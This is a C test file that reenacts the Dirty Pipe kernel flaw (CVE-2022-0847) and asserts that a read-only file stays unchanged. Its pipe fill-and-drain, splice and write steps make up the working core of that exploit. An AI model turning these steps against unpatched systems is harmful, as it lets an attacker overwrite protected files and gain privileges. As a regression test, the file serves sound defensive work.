/* SPDX-License-Identifier: MIT */
/* Tries: to write into an input's page cache through a pipe whose buffers claim to be mergeable.
 * Must be seen: the input's bytes are what they were, inside and outside.
 * Known from: CVE-2022-0847 (Dirty Pipe: splice left a flag of an older buffer set). */
#include "../attack.h"

#include <fcntl.h>
#include <string.h>
#include <unistd.h>

static void
fill_and_empty(const int *ends)
{
	char page[4096] = {0};
	int size = fcntl(ends[1], F_GETPIPE_SZ);

	for (int left = size; left > 0; left -= (int)sizeof(page)) {
		must_be(write(ends[1], page, sizeof(page)) > 0, "the pipe takes a page");
	}
	for (int left = size; left > 0; left -= (int)sizeof(page)) {
		must_be(read(ends[0], page, sizeof(page)) > 0, "the pipe gives a page");
	}
}

ATTACK()
{
	int ends[2], fd = open("/brun/file", O_RDONLY);
	char now[16] = "";
	off64_t offset = 0;

	must_be(fd >= 0 && pipe(ends) == 0, "there is an input and a pipe");
	fill_and_empty(ends);
	must_be(splice(fd, &offset, ends[1], NULL, 1, 0) == 1, "a byte is spliced");
	must_be(write(ends[1], "VANDAL", 6) == 6, "more is written behind it");
	must_be(pread(fd, now, 9, 0) == 9 && strcmp(now, "precious\n") == 0,
		"the input is what it was");
}
